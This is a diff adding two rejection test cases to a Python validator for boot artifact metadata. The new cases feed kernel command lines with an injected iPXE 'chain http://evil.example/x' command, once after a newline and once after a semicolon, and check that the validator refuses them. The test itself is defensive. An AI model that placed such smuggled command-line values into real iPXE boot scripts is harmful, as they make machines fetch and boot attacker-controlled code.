@@ -214,6 +214,15 @@ def bad_cases(paths, tmp_path):
         ({"name": "Not A/Name"}, "name: 'Not A/Name' is not a valid image reference"),
         ({"name": "r.io/x@sha256:" + "a" * 64}, "names a digest"),
         ({"annotations": {"build": 5}}, "annotations.build must be a string, got int"),
+        # boot.ipxe carries the command line: a newline or an iPXE separator would add commands.
+        (
+            {"artifacts": [dict(amd, cmdline="console=ttyS0\nchain http://evil.example/x")]},
+            "artifacts[0].cmdline: 'console=ttyS0\\nchain' holds the control character",
+        ),
+        (
+            {"artifacts": [dict(amd, cmdline="ro ; chain http://evil.example/x")]},
+            "artifacts[0].cmdline: ';' would end iPXE's kernel command",
+        ),
     ]
 
 
